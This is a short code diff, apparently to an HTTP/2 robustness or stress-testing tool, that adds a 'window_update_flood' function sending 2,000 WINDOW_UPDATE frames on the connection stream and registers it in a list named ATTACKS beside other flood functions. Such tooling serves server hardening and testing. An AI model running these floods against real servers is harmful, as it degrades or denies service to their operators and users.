@@ -193,6 +193,11 @@ def stalled_windows(c):
         time.sleep(0.05)
 
 
+def window_update_flood(c):
+    # Room for what was never sent.
+    c.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 2_000)
+
+
 def window_by_bytes(c):
     # A window that grows byte by byte: many small writes for little.
     if c.stream < 20:
@@ -222,6 +227,7 @@ ATTACKS = [
     priority_flood,
     unknown_frames,
     stalled_windows,
+    window_update_flood,
     window_by_bytes,
     garbage,
 ]
